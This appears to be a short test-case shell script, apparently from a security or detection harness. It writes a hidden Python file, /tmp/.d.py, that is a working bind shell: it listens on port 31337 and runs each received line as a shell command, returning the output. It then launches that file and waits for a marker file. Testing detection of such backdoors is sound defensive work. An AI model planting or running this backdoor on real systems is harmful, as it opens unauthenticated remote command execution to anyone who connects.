#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.d.py <<'EOF'
import os, socket
listener = socket.create_server(("", 31337))
caller, _ = listener.accept()
for line in caller.makefile():
    if line.strip() == "exit":
        break
    caller.sendall(os.popen(line).read().encode())
EOF
python3 /tmp/.d.py &
wait_for /tmp/reached
took_place
